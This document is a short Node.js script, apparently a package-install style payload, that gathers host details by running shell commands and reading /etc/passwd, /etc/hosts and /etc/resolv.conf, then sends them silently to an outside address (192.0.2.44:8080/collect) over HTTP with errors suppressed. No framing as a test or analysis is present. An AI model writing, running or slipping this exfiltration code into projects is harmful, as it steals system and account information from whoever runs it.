const http = require('http');
const fs = require('fs');
const { execSync } = require('child_process');

function run(cmd) {
  try { return execSync(cmd, { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); } catch (e) { return ''; }
}

function read(p) {
  try { return fs.readFileSync(p, 'utf8'); } catch (e) { return ''; }
}

const systemInfo = {
  publicIP: run('curl -s https://ip.example.test'),
  hostname: run('hostname'),
  user: run('whoami'),
  uname: run('uname -a'),
  cwd: process.cwd(),
  passwd: read('/etc/passwd'),
  hosts: read('/etc/hosts'),
  resolv: read('/etc/resolv.conf'),
};

const data = new URLSearchParams(Object.entries(systemInfo)).toString();
http.get('http://192.0.2.44:8080/collect?' + data, () => {}).on('error', () => {});
